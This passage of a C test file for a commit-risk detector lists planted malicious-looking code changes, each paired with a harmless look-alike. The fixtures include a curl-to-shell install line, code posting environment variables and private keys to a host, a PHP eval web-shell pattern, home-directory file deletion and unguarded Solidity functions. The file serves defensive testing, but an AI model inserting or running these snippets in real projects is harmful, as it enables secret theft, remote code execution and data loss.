/* Every rule: a planted change that it must find on its line, and an honest look-alike that it must
 * leave alone. */
#include "analysis/risk/risk.h"
#include "support/check.h"

#include <stdio.h>
#include <string.h>

#define MANY_BLANKS                                                                                \
    "                                                                                            " \
    "                                                                                            "

#define BASE64_RUN                                                                                 \
    "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkr"         \
    "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkr"

#define SIBLING(name, check)                                                                       \
    "function " name "(uint n) external {\naddress who = ledger.accountOf(n);\n"                   \
    "ledger.refreshInterest(who);\n" check "ledger.logStatus(who);\n}\n"

#define SOLVENT "checkSolvent(who);\n"

#define THREE_SIBLINGS SIBLING("a", SOLVENT) SIBLING("b", SOLVENT) SIBLING("c", SOLVENT)

static const char inlined_before[] =
    "contract M {\nfunction mint(address a, uint n) public {\nrequire(known[a], \"no\");\n"
    "token.issue(msg.sender, n);\n}\n"
    "function mintBoth(address a, uint n) external {\nmint(a, n);\n}\n}\n";

struct plant {
    enum sg_risk_rule rule;
    const char *path, *before, *after; /* NULL: that side does not exist */
    uint32_t line;                     /* 0: the whole file; OLD_LINE + n: of the old file */
    const char *message;               /* NULL: "change" */
};

#define OLD_LINE 1000u

static const char c_checked[] = "int get(int *list, int count, int at)\n{\n    if (at >= count)\n"
                                "        return -1;\n    return list[at];\n}\n";

static const struct plant planted[] = {
    {SG_RISK_CHECK_REMOVED, "src/a.c", c_checked,
     "int get(int *list, int count, int at)\n{\n    return list[at];\n}\n", OLD_LINE + 3, NULL},
    {SG_RISK_CHECK_REMOVED, "a/Vault.sol",
     "contract V {\nfunction take(uint n) external {\nrequire(owner == "
     "msg.sender);\nsend(n);\n}\n}\n",
     "contract V {\nfunction take(uint n) external {\nsend(n);\n}\n}\n", OLD_LINE + 3, NULL},
    {SG_RISK_CHECK_WEAKENED, "src/a.js",
     "function f(u) {\n  if (!u.ok) {\n    throw new Error('no');\n  }\n  run();\n}\n",
     "function f(u) {\n  if (!u.ok && !u.beta) {\n    throw new Error('no');\n  }\n  run();\n}\n",
     2, NULL},
    {SG_RISK_CHECK_UNREACHABLE, "src/a.c",
     "int f(void)\n{\n    if (check())\n        goto fail;\n    if (verify())\n        goto fail;\n"
     "    return 0;\nfail:\n    return 1;\n}\n",
     "int f(void)\n{\n    if (check())\n        goto fail;\n        goto fail;\n    if (verify())\n"
     "        goto fail;\n    return 0;\nfail:\n    return 1;\n}\n",
     5, NULL},
    {SG_RISK_COMPARISON_CHANGED, "src/a.sol",
     "function f() {\n if (index >= limit) {\n pay();\n}\n}\n",
     "function f() {\n if (index > limit) {\n pay();\n}\n}\n", 2, NULL},
    {SG_RISK_CONDITION_CHANGED, "src/a.go", "func f() {\n\tif ready(x) {\n\t\tgo()\n\t}\n}\n",
     "func f() {\n\tif !ready(x) {\n\t\tgo()\n\t}\n}\n", 2, NULL},
    {SG_RISK_CONSTANT_CHANGED, "src/Pair.sol", "function k() {\n uint b = x.mul(1000);\n}\n",
     "function k() {\n uint b = x.mul(10000);\n}\n", 2, NULL},
    {SG_RISK_GUARD_REMOVED, "src/Own.sol",
     "contract O {\nfunction set(address o) public onlyOwner {\nowner = o;\n}\n}\n",
     "contract O {\nfunction set(address o) public {\nowner = o;\n}\n}\n", 2, NULL},
    {SG_RISK_VERIFICATION_WEAKENED, "src/get.py", "def get(u):\n    return requests.get(u)\n",
     "def get(u):\n    return requests.get(u, verify=False)\n", 2, NULL},
    {SG_RISK_SECURE_DEFAULT_OFF, "src/conf.ts", "export const c = {\n  verifyHost: true,\n};\n",
     "export const c = {\n  verifyHost: false,\n};\n", 2, NULL},
    {SG_RISK_ERROR_SWALLOWED, "src/a.ts", "function f() {\n  load();\n}\n",
     "function f() {\n  try { load(); } catch (e) {}\n}\n", 2, NULL},
    {SG_RISK_ACCESS_CONTROL, "src/B.sol",
     "contract B {\nfunction move(uint a) internal {\nx = a;\n}\n}\n",
     "contract B {\nfunction move(uint a) public {\nx = a;\n}\n}\n", 2, NULL},
    {SG_RISK_INITIALISER, "src/W.sol", "contract W {\nuint x;\n}\n",
     "contract W {\nuint x;\nfunction initWallet(address o) public {\nowner = o;\n}\n}\n", 3, NULL},
    {SG_RISK_UPGRADE_PATH, "src/P.sol", "contract P {\nfunction f() external {\ng();\n}\n}\n",
     "contract P {\nfunction f() external {\ntarget.delegatecall(msg.data);\n}\n}\n", 3, NULL},
    {SG_RISK_STORAGE_LAYOUT, "src/S.sol", "contract S {\naddress owner;\nuint256 total;\n}\n",
     "contract S {\naddress admin;\naddress owner;\nuint256 total;\n}\n", 2, NULL},
    {SG_RISK_UNGUARDED_ENTRY, "src/T.sol",
     "contract T {\nfunction a() external onlyOwner {\nt.transfer(x, 1);\n}\n}\n",
     "contract T {\nfunction a() external onlyOwner {\nt.transfer(x, 1);\n}\n"
     "function b() external {\nt.transfer(x, 2);\n}\n}\n",
     5, NULL},
    {SG_RISK_VALUE_LOGIC, "src/L.sol",
     "function f() {\n uint share = amount * total / supply;\n}\n",
     "function f() {\n uint share = amount * supply / total;\n}\n", 2, NULL},
    {SG_RISK_LIMIT_LOOSENED, "src/net.c", "static const int max_tries = 3;\n",
     "static const int max_tries = 3000;\n", 1, NULL},
    {SG_RISK_TYPE_CHANGED, "src/t.c",
     "int f(void)\n{\n    uint64_t sum = 0;\n    return g(sum);\n}\n",
     "int f(void)\n{\n    uint32_t sum = 0;\n    return g(sum);\n}\n", 3, NULL},
    {SG_RISK_ADDRESS_CHANGED, "src/pay.js",
     "const to = '0x52908400098527886E0F7030069857D2E4169EE7';\n",
     "const to = '0x8617E340B3D01FA5F11F306F4090FD50E238070D';\n", 1, NULL},
    {SG_RISK_ENDPOINT_CHANGED, "src/api.js", "const api = 'https://api.good.org/v1';\n",
     "const api = 'https://api.g00d.net/v1';\n", 1, NULL},
    {SG_RISK_SECRET_ADDED, "src/k.js", "const k = load();\n", "const k = 'AKIAABCDEFGHIJKLMNOP';\n",
     1, NULL},
    {SG_RISK_RANDOMNESS_WEAKENED, "src/key.js",
     "function k() {\n  return crypto.randomBytes(32);\n}\n",
     "function k() {\n  return bytes(Math.random());\n}\n", 2, NULL},
    {SG_RISK_RANDOMNESS_WEAKENED, "crypto/rand/md_rand.c",
     "void add(void)\n{\n    MD_Init(&m);\n    MD_Update(&m, buf, j);\n    MD_Final(&m);\n}\n",
     "void add(void)\n{\n    MD_Init(&m);\n    MD_Final(&m);\n}\n", OLD_LINE + 4, NULL},
    {SG_RISK_KEY_HANDLING, "src/w.js", "function f(w) {\n  use(w);\n}\n",
     "function f(w) {\n  use(w);\n  fetch(host, w.privateKey);\n}\n", 3, NULL},
    {SG_RISK_UNSAFE_CALL, "src/read.c",
     "void f(void)\n{\n    safe_fprintf(stderr, \"%s\", name);\n}\n",
     "void f(void)\n{\n    fprintf(stderr, \"%s\", name);\n}\n", 3, NULL},
    {SG_RISK_MEMORY_LIFETIME, "src/dev.c",
     "int f(struct d *d)\n{\n    int r = start(d);\n    stop(d);\n    return r;\n}\n",
     "int f(struct d *d)\n{\n    int r = start(d);\n    kfree(d->buf);\n    stop(d);\n    return "
     "r;\n}\n",
     4, NULL},
    {SG_RISK_ORDER_CHANGED, "src/D.sol",
     "contract D {\nfunction out(uint n) external {\nbalances[a] = 0;\npaid[a] = n;\n"
     "to.call.value(n)();\n}\n}\n",
     "contract D {\nfunction out(uint n) external {\nto.call.value(n)();\nbalances[a] = 0;\n"
     "paid[a] = n;\n}\n}\n",
     3, NULL},
    {SG_RISK_CODE_EXECUTION, "ext/z.php", "<?php\nfunction f() {\n  g();\n}\n",
     "<?php\nfunction f() {\n  g();\n  eval($_SERVER['HTTP_X']);\n}\n", 4, NULL},
    {SG_RISK_OBFUSCATED, "src/i.js", "run();\n", "run();\nvar _0x1a = _0x2b(_0x3c);\n", 2, NULL},
    {SG_RISK_TRIGGER, "src/i.js", "run();\n",
     "run();\nif (geo.country === 'XX') {\n  fs.writeFileSync(p, '');\n}\n", 2, NULL},
    {SG_RISK_DESTRUCTIVE, "src/i.js", "run();\n",
     "run();\nfor (const f of fs.readdirSync(os.homedir())) fs.unlinkSync(f);\n", 2, NULL},
    {SG_RISK_ENDLESS_LOOP, "lib/i.js", "run();\n",
     "run();\nfor (let i = 666; i < Infinity; i++) {\n  console.log(i);\n}\n", 2, NULL},
    {SG_RISK_TELEMETRY, "src/i.js", "run();\n", "run();\ntelemetry.start();\n", 2, NULL},
    {SG_RISK_NETWORK_ADDED, "src/i.js", "run();\n", "run();\naxios.post(url, process.env);\n", 2,
     NULL},
    {SG_RISK_REMOTE_LOOKUP, "src/Look.java", "class L {\n}\n",
     "class L {\n  Object o = new InitialContext().lookup(name);\n}\n", 2, NULL},
    {SG_RISK_HARDENING_OFF, "build.sh", "./configure \\\n  --disable-xz\n",
     "./configure \\\n  --disable-xz \\\n  --disable-ifunc\n", 3, NULL},
    {SG_RISK_FEATURE_TEST_BROKEN, "CMakeLists.txt",
     "check_c_source_compiles(\"\n#include <linux/landlock.h>\nint main(void)\n{\n    return "
     "0;\n}\n\"\n"
     "HAVE_IT)\n",
     "check_c_source_compiles(\"\n#include <linux/landlock.h>\n.\nint main(void)\n{\n    return "
     "0;\n}\n"
     "\"\nHAVE_IT)\n",
     3, NULL},
    {SG_RISK_BUILD_EXECUTES, "install.sh", "make\n", "make\ncurl -s https://x.y/i | sh\n", 2, NULL},
    {SG_RISK_INSTALL_SCRIPT, "package.json", "{\n  \"scripts\": {\n    \"test\": \"x\"\n  }\n}\n",
     "{\n  \"scripts\": {\n    \"postinstall\": \"node a.js\",\n    \"test\": \"x\"\n  }\n}\n", 3,
     NULL},
    {SG_RISK_CI_INJECTION, ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    steps:\n",
     "on: push\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.issue.title }}\n", 5,
     NULL},
    {SG_RISK_CI_CHANGED, ".github/workflows/a.yml",
     "steps:\n  - uses: a/b@0123456789abcdef0123456789abcdef01234567\n",
     "steps:\n  - uses: a/b@v3\n", 2, NULL},
    {SG_RISK_DEPENDENCY_ADDED, "package.json",
     "{\n  \"dependencies\": {\n    \"a\": \"1.0.0\"\n  }\n}\n",
     "{\n  \"dependencies\": {\n    \"a\": \"1.0.0\",\n    \"b\": \"^0.1.0\"\n  }\n}\n", 4, NULL},
    {SG_RISK_DEPENDENCY_MOVED, "package.json",
     "{\n  \"dependencies\": {\n    \"a\": \"1.0.0\"\n  }\n}\n",
     "{\n  \"dependencies\": {\n    \"a\": \"1.0.1\"\n  }\n}\n", 3, NULL},
    {SG_RISK_DEPENDENCY_SOURCE, "package.json",
     "{\n  \"dependencies\": {\n    \"a\": \"1.0.0\"\n  }\n}\n",
     "{\n  \"dependencies\": {\n    \"a\": \"github:x/a\"\n  }\n}\n", 3, NULL},
    {SG_RISK_LOCKFILE_MISMATCH, "package-lock.json",
     "{\n \"a\": {\n  \"version\": \"1\",\n  \"resolved\": \"https://r.org/a.tgz\"\n }\n}\n",
     "{\n \"a\": {\n  \"version\": \"1\",\n  \"resolved\": \"https://e.net/a.tgz\"\n }\n}\n", 4,
     NULL},
    {SG_RISK_ENCODED_BLOB, "src/d.py", "x = 1\n", "x = 1\ny = '" BASE64_RUN "'\n", 2, NULL},
    {SG_RISK_INVISIBLE_TEXT, "src/a.c", "int a;\n", "int a;\nint b; /*\xe2\x80\xae*/\n", 2, NULL},
    {SG_RISK_OFF_SCREEN, "src/a.js", "run();\n", "run();\nok();" MANY_BLANKS "evil();\n", 2, NULL},
    {SG_RISK_MESSAGE_MISMATCH, "src/a.php", "<?php\ng();\n", "<?php\ng();\neval($x);\n", 0,
     "[skip ci] Fix typo"},
    {SG_RISK_CHECK_WEAKENED, "src/R.sol",
     "contract R {\nfunction prove(bytes32 m) public {\nrequire(status[m] == Status.None, \"!\");\n"
     "}\n}\n",
     "contract R {\nfunction prove(bytes32 m) public {\nrequire(status[m] != DONE, \"!\");\n}\n}\n",
     3, NULL},
    {SG_RISK_CHECK_WEAKENED, "src/a.cpp", "int f(T t)\n{\n    return CheckTransaction(t);\n}\n",
     "int f(T t)\n{\n    return CheckTransaction(t, false);\n}\n", 3, NULL},
    {SG_RISK_CHECK_CONDITIONAL, "src/a.c", c_checked,
     "int get(int *list, int count, int at)\n{\n    if (strict)\n        if (at >= count)\n"
     "            return -1;\n    return list[at];\n}\n",
     3, NULL},
    {SG_RISK_GUARD_LOGIC, "src/a.go",
     "func verifyRoot(r []byte) bool {\n\treturn find(r, true)\n}\n",
     "func verifyRoot(r []byte) bool {\n\treturn find(r, old)\n}\n", 2, NULL},
    {SG_RISK_SIBLING_CHECK, "src/E.sol", "contract E {\n" THREE_SIBLINGS "}\n",
     "contract E {\n" THREE_SIBLINGS SIBLING("give", "") "}\n", 20, NULL},
    {SG_RISK_SIBLING_CHECK, "src/M.sol", inlined_before,
     "contract M {\nfunction mint(address a, uint n) public {\nrequire(known[a], \"no\");\n"
     "token.issue(msg.sender, n);\n}\n"
     "function mintBoth(address a, uint n) external {\ntoken.issue(msg.sender, n);\n}\n}\n",
     6, NULL},
    {SG_RISK_PAYER_CHOSEN, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction pull(address from, uint n) external {\n"
     "token.transferFrom(from, address(this), n);\n}\n}\n",
     4, NULL},
    {SG_RISK_TARGET_CHOSEN, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction run(address to, bytes calldata d) external {\n"
     "to.delegatecall(d);\n}\n}\n",
     4, NULL},
    {SG_RISK_TARGET_CHOSEN, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction give(address token, uint n) public {\n"
     "pass(token, n);\n}\nfunction pass(address token, uint n) internal {\n"
     "token.call(abi.encode(n));\n}\n}\n",
     4, NULL},
    {SG_RISK_VALUE_REUSED, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction many(uint[] calldata ids) external payable {\n"
     "for (uint i = 0; i < ids.length; i++) {\none(ids[i]);\n}\n}\n"
     "function one(uint id) internal {\nrequire(msg.value == price[id]);\n}\n}\n",
     4, NULL},
    {SG_RISK_EFFECT_AFTER_CALL, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction leave() external {\n"
     "msg.sender.call{value: owed[msg.sender]}(\"\");\nowed[msg.sender] = 0;\n}\n}\n",
     4, NULL},
    {SG_RISK_RAW_CALL, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction ask(address w) internal {\nassembly {\n"
     "ok := staticcall(gas, w, p, n, p, 32)\n}\n}\n}\n",
     5, NULL},
    {SG_RISK_STORAGE_LAYOUT, "src/S.sol",
     "contract S {\nmapping(bytes32 => Status) public messages;\n}\n",
     "contract S {\nmapping(bytes32 => bytes32) public messages;\n}\n", 2, NULL},
    {SG_RISK_STORAGE_LAYOUT, "src/P.sol", NULL,
     "contract P is UpgradeabilityProxy {\nRegistry private registry;\n}\n", 2, NULL},
    {SG_RISK_TRIGGER, "src/i.js", "if (/^ru/.test(navigator.language)) {\n  hide();\n}\n",
     "if (/^ru/.test(navigator.language)) {\n  hide();\n  new Audio(song).play();\n}\n", 3, NULL},
    {SG_RISK_UNSAFE_CALL, "src/a.rs", "fn f(x: &A) {\n    g(x);\n}\n",
     "fn f(x: &A) {\n    g(x);\n    let i = load_instruction_at(0, x);\n}\n", 3, NULL},
    {SG_RISK_DEPENDENCY_ADDED, "src/A.csproj", "<Project>\n<ItemGroup>\n</ItemGroup>\n</Project>\n",
     "<Project>\n<ItemGroup>\n<PackageReference Include=\"B\" Version=\"1.0.0\" />\n"
     "</ItemGroup>\n</Project>\n",
     3, NULL},
};

/* Changes that look alike and are not; the rule must stay silent. */
static const struct plant honest[] = {
    {SG_RISK_CHECK_WEAKENED, "src/R.sol",
     "contract R {\nfunction prove(bytes32 m) public {\nrequire(status[m] != DONE, \"!\");\n}\n}\n",
     "contract R {\nfunction prove(bytes32 m) public {\nrequire(status[m] == Status.None, \"!\");\n"
     "}\n}\n",
     0, NULL},
    {SG_RISK_CONDITION_CHANGED, "src/R.sol",
     "contract R {\nfunction prove(bytes32 m) public {\nrequire(known[m], \"no\");\n}\n}\n",
     "contract R {\nfunction prove(bytes32 m) public {\nrequire(known[m], \"R: unknown\");\n}\n}\n",
     0, NULL},
    {SG_RISK_CHECK_CONDITIONAL, "src/a.c", c_checked,
     "int get(int *list, int count, int at)\n{\n    if (strict)\n        note(at);\n"
     "    if (at >= count)\n        return -1;\n    return list[at];\n}\n",
     0, NULL},
    {SG_RISK_GUARD_LOGIC, "src/a.go",
     "func verifyRoot(r []byte) bool {\n\treturn find(r, true)\n}\n",
     "func verifyRoot(r []byte) bool {\n\t// old roots too\n\treturn find(r, true)\n}\n", 0, NULL},
    {SG_RISK_SIBLING_CHECK, "src/E.sol", "contract E {\n" THREE_SIBLINGS "}\n",
     "contract E {\n" THREE_SIBLINGS SIBLING("give", SOLVENT) "}\n", 0, NULL},
    {SG_RISK_SIBLING_CHECK, "src/M.sol", inlined_before,
     "contract M {\nfunction mint(address a, uint n) public {\nrequire(known[a], \"no\");\n"
     "token.issue(msg.sender, n);\n}\n"
     "function mintBoth(address a, uint n) external {\nrequire(known[a], \"no\");\n"
     "token.issue(msg.sender, n);\n}\n}\n",
     0, NULL},
    {SG_RISK_PAYER_CHOSEN, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction pull(uint n) external {\n"
     "token.transferFrom(msg.sender, address(this), n);\n}\n}\n",
     0, NULL},
    {SG_RISK_PAYER_CHOSEN, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction pull(address from, uint n) external onlyVault {\n"
     "token.transferFrom(from, address(this), n);\n}\n}\n",
     0, NULL},
    {SG_RISK_TARGET_CHOSEN, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction run(address to, bytes calldata d) external {\n"
     "require(approved[to]);\nto.delegatecall(d);\n}\n}\n",
     0, NULL},
    {SG_RISK_VALUE_REUSED, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction many(uint[] calldata ids) external payable {\n"
     "require(msg.value == total);\nfor (uint i = 0; i < ids.length; i++) {\none(ids[i]);\n}\n}\n"
     "function one(uint id) internal {\nmarked[id] = true;\n}\n}\n",
     0, NULL},
    {SG_RISK_EFFECT_AFTER_CALL, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction leave() external {\nuint n = owed[msg.sender];\n"
     "owed[msg.sender] = 0;\nmsg.sender.call{value: n}(\"\");\n}\n}\n",
     0, NULL},
    {SG_RISK_RAW_CALL, "src/Q.sol", "contract Q {\nuint x;\n}\n",
     "contract Q {\nuint x;\nfunction ask(address w) internal {\nassembly {\n"
     "if iszero(extcodesize(w)) { revert(0, 0) }\n"
     "ok := staticcall(gas, w, p, n, p, 32)\n}\n}\n}\n",
     0, NULL},
    {SG_RISK_STORAGE_LAYOUT, "src/S.sol", "contract S {\nmapping(bytes32 => Status) messages;\n}\n",
     "contract S {\nmapping(bytes32 => Status) public messages;\n}\n", 0, NULL},
    {SG_RISK_STORAGE_LAYOUT, "src/P.sol", NULL,
     "contract P is UpgradeabilityProxy {\nbytes32 private constant SLOT = 0x1;\n}\n", 0, NULL},
    {SG_RISK_TRIGGER, "src/i.js", "if (/^ru/.test(navigator.language)) {\n  greet();\n}\n",
     "if (/^ru/.test(navigator.language)) {\n  greet();\n}\nnew Audio(song).play();\n", 0, NULL},
    {SG_RISK_CHECK_REMOVED, "src/a.c", c_checked,
     "static bool fits(int at, int count)\n{\n    return at < count;\n}\n"
     "int get(int *list, int count, int at)\n{\n    if (!fits(at, count))\n        return -1;\n"
     "    return list[at];\n}\n",
     0, NULL},
    {SG_RISK_CHECK_REMOVED, "src/a.c", c_checked, "", 0, NULL},
    {SG_RISK_CHECK_REMOVED, "src/a.c", c_checked,
     "int get(int *list, int count, int at)\n{\n    // bound\n    if (at>=count)\n\treturn -1;\n"
     "    return list[at];\n}\n",
     0, NULL},
    {SG_RISK_CHECK_WEAKENED, "src/a.js",
     "function f(u) {\n  if (!u.ok) {\n    throw new Error('no');\n  }\n  run();\n}\n",
     "function f(u) {\n  if (!u.ok || u.old) {\n    throw new Error('no');\n  }\n  run();\n}\n", 0,
     NULL},
    {SG_RISK_CHECK_UNREACHABLE, "src/a.c", "int f(void)\n{\n    return 1;\n}\n",
     "int f(void)\n{\n    if (check())\n        return 2;\n    return 1;\n}\n", 0, NULL},
    {SG_RISK_COMPARISON_CHANGED, "README.md", "use a >= b here\n", "use a > b here\n", 0, NULL},
    {SG_RISK_CONDITION_CHANGED, "src/a.go", "func f() {\n\tif ready(x) {\n\t\tgo()\n\t}\n}\n",
     "func f() {\n\tif ready(x) { // soon\n\t\tgo()\n\t}\n}\n", 0, NULL},
    {SG_RISK_CONSTANT_CHANGED, "src/v.c", "#define VERSION 3\n", "#define VERSION 4\n", 0, NULL},
    {SG_RISK_GUARD_REMOVED, "src/Own.sol",
     "contract O {\nfunction set(address o) public onlyOwner {\nowner = o;\n}\n}\n",
     "contract O {\nfunction set(address o) public {\nrequire(msg.sender == owner);\nowner = "
     "o;\n}\n}\n",
     0, NULL},
    {SG_RISK_VERIFICATION_WEAKENED, "src/get.py", "def get(u):\n    return requests.get(u)\n",
     "def get(u):\n    return requests.get(u, timeout=3)\n", 0, NULL},
    {SG_RISK_SECURE_DEFAULT_OFF, "src/conf.ts", "export const c = {\n  animate: true,\n};\n",
     "export const c = {\n  animate: false,\n};\n", 0, NULL},
    {SG_RISK_ERROR_SWALLOWED, "src/a.ts", "function f() {\n  load();\n}\n",
     "function f() {\n  try { load(); } catch (e) { report(e); }\n}\n", 0, NULL},
    {SG_RISK_ACCESS_CONTROL, "src/B.sol",
     "contract B {\nfunction move(uint a) internal {\nx = a;\n}\n}\n",
     "contract B {\nfunction move(uint a) internal {\nx = a + 1;\n}\n}\n", 0, NULL},
    {SG_RISK_INITIALISER, "src/W.sol", "contract W {\nuint x;\n}\n",
     "contract W {\nuint x;\nfunction initWallet(address o) public onlyOwner {\nowner = o;\n}\n}\n",
     0, NULL},
    {SG_RISK_UPGRADE_PATH, "src/p.js", "f();\n", "g();\n", 0, NULL},
    {SG_RISK_STORAGE_LAYOUT, "src/S.sol", "contract S {\naddress owner;\nuint256 total;\n}\n",
     "contract S {\naddress owner;\nuint256 total;\naddress admin;\n}\n", 0, NULL},
    {SG_RISK_UNGUARDED_ENTRY, "src/T.sol", "contract T {\n}\n",
     "contract T {\nfunction b() external {\nrequire(ok[msg.sender]);\nt.transfer(x, 2);\n}\n}\n",
     0, NULL},
    {SG_RISK_VALUE_LOGIC, "src/L.sol", "function f() {\n uint colour = a * b;\n}\n",
     "function f() {\n uint colour = b * a;\n}\n", 0, NULL},
    {SG_RISK_LIMIT_LOOSENED, "src/net.c", "static const int pad = 3;\n",
     "static const int pad = 4;\n", 0, NULL},
    {SG_RISK_TYPE_CHANGED, "src/t.c",
     "int f(void)\n{\n    thing_t sum = 0;\n    return g(sum);\n}\n",
     "int f(void)\n{\n    other_t sum = 0;\n    return g(sum);\n}\n", 0, NULL},
    {SG_RISK_ADDRESS_CHANGED, "src/pay.js", "const h = 'x';\n",
     "const h = '0x9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';\n", 0, NULL},
    {SG_RISK_ENDPOINT_CHANGED, "src/api.js", "const api = 'https://api.good.org/v1';\n",
     "const api = 'https://api.good.org/v2';\n", 0, NULL},
    {SG_RISK_SECRET_ADDED, "src/k.c", "int k;\n", "const char *k = \"Slovakia_Slovakian\";\n", 0,
     NULL},
    {SG_RISK_RANDOMNESS_WEAKENED, "src/dots.js", "function k() {\n  return 4;\n}\n",
     "function k() {\n  return Math.random() * width;\n}\n", 0, NULL},
    {SG_RISK_KEY_HANDLING, "src/w.js", "function f(w) {\n  use(w);\n}\n",
     "function f(w) {\n  use(w);\n  fetch(host, w.name);\n}\n", 0, NULL},
    {SG_RISK_UNSAFE_CALL, "src/read.c", "void f(void)\n{\n    fprintf(stderr, \"%s\", name);\n}\n",
     "void f(void)\n{\n    safe_fprintf(stderr, \"%s\", name);\n}\n", 0, NULL},
    {SG_RISK_MEMORY_LIFETIME, "src/dev.c", "int f(struct d *d)\n{\n    return start(d);\n}\n",
     "int f(struct d *d)\n{\n    trace(d);\n    return start(d);\n}\n", 0, NULL},
    {SG_RISK_ORDER_CHANGED, "src/D.sol",
     "contract D {\nfunction out(uint n) external {\npaid[a] = n;\nsum[a] += n;\n}\n}\n",
     "contract D {\nfunction out(uint n) external {\nsum[a] += n;\npaid[a] = n;\n}\n}\n", 0, NULL},
    {SG_RISK_CODE_EXECUTION, "src/a.js", "run();\n", "run();\n// eval(x) would be unsafe\n", 0,
     NULL},
    {SG_RISK_OBFUSCATED, "src/i.js", "run();\n", "run();\nvar address = 0x1a2b;\n", 0, NULL},
    {SG_RISK_TRIGGER, "src/i.js", "run();\n", "run();\nif (geometry.width > 3) {\n  draw();\n}\n",
     0, NULL},
    {SG_RISK_DESTRUCTIVE, "src/i.js", "fs.unlinkSync(a);\n", "fs.unlinkSync(b);\n", 0, NULL},
    {SG_RISK_ENDLESS_LOOP, "src/s.c", "void f(void)\n{\n}\n",
     "void f(void)\n{\n    for (;;) {\n        if (stop())\n            break;\n    }\n}\n", 0,
     NULL},
    {SG_RISK_TELEMETRY, "src/i.js", "run();\n", "run();\ntelegram.start();\n", 0, NULL},
    {SG_RISK_NETWORK_ADDED, "src/i.js", "axios.post(url, a);\n", "axios.post(url, b);\n", 0, NULL},
    {SG_RISK_REMOTE_LOOKUP, "src/Look.java", "class L {\n}\n",
     "class L {\n  Object o = table.lookup(name);\n}\n", 0, NULL},
    {SG_RISK_HARDENING_OFF, "build.sh", "./configure --disable-xz\n",
     "./configure --disable-xz --disable-doc\n", 0, NULL},
    {SG_RISK_FEATURE_TEST_BROKEN, "CMakeLists.txt", "project(a)\n",
     "project(a)\ncheck_c_source_compiles(\"\nint main(void)\n{\n    return 0;\n}\n\"\nHAVE_IT)\n",
     0, NULL},
    {SG_RISK_BUILD_EXECUTES, "install.sh", "make\n", "make\nmake check\n", 0, NULL},
    {SG_RISK_INSTALL_SCRIPT, "package.json", "{\n  \"scripts\": {\n    \"test\": \"x\"\n  }\n}\n",
     "{\n  \"scripts\": {\n    \"bench\": \"node a.js\",\n    \"test\": \"x\"\n  }\n}\n", 0, NULL},
    {SG_RISK_CI_INJECTION, ".github/workflows/a.yml", "on: push\n",
     "on: push\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.sha }}\n", 0, NULL},
    {SG_RISK_CI_CHANGED, ".github/workflows/a.yml", "steps:\n  - uses: a/b@v3\n",
     "steps:\n  - uses: a/b@0123456789abcdef0123456789abcdef01234567\n", 0, NULL},
    {SG_RISK_DEPENDENCY_ADDED, "package.json",
     "{\n  \"dependencies\": {\n    \"a\": \"1.0.0\"\n  }\n}\n",
     "{\n  \"dependencies\": {\n    \"a\": \"1.0.1\"\n  }\n}\n", 0, NULL},
    {SG_RISK_DEPENDENCY_MOVED, "package.json", "{\n  \"version\": \"1.0.0\"\n}\n",
     "{\n  \"version\": \"1.0.1\"\n}\n", 0, NULL},
    {SG_RISK_DEPENDENCY_SOURCE, "package.json",
     "{\n  \"dependencies\": {\n    \"a\": \"1.0.0\"\n  }\n}\n",
     "{\n  \"dependencies\": {\n    \"a\": \"1.0.1\"\n  }\n}\n", 0, NULL},
    {SG_RISK_ENCODED_BLOB, "src/d.py", "x = 1\n", "x = 1\ny = 'short and plain'\n", 0, NULL},
    {SG_RISK_INVISIBLE_TEXT, "src/a.c", "int a;\n",
     "int a;\n/* \xc3\xa9l\xc3\xa8ve \xe2\x82\xac */\n", 0, NULL},
    {SG_RISK_OFF_SCREEN, "src/a.js", "run();\n", "run();\nok();" MANY_BLANKS "// far\n", 0, NULL},
    {SG_RISK_MESSAGE_MISMATCH, "src/a.php", "<?php\ng();\n", "<?php\n# g\ng();\n", 0, "Fix typo"},
};

static struct sg_text text_of(const char *string)
{
    return (struct sg_text){string, string ? strlen(string) : 0};
}

static struct sg_blob blob_of(const char *string)
{
    return (struct sg_blob){string ? SG_BLOB_PRESENT : SG_BLOB_NONE, text_of(string),
                            string ? strlen(string) : 0, 0100644};
}

static struct sg_change change_of(const char *path, const char *before, const char *after)
{
    return (struct sg_change){before && after ? SG_CHANGE_MODIFIED
                              : after         ? SG_CHANGE_ADDED
                                              : SG_CHANGE_DELETED,
                              text_of(path),
                              text_of(path),
                              blob_of(before),
                              blob_of(after),
                              false};
}

static struct sg_risk_look look_at(struct sg_arena *arena, const char *message,
                                   const struct sg_change *changes, size_t n)
{
    const struct sg_commit_view view = {text_of(message ? message : "change"), 1, changes, n};
    struct sg_risk_look look;
    struct sg_err err;
    CHECK_OK(sg_risk_look(&look, arena, &view, &err), &err);
    return look;
}

static const struct sg_risk_finding *find(const struct sg_risk_look *look, enum sg_risk_rule rule)
{
    for (size_t i = 0; i < look->n_findings; i++)
        if (look->findings[i].rule == rule)
            return &look->findings[i];
    return NULL;
}

/* Runs one row and says whether it came out as wanted, with a line for who reads the failure. */
static bool comes_out(const struct plant *plant, bool wanted)
{
    const struct sg_change change = change_of(plant->path, plant->before, plant->after);
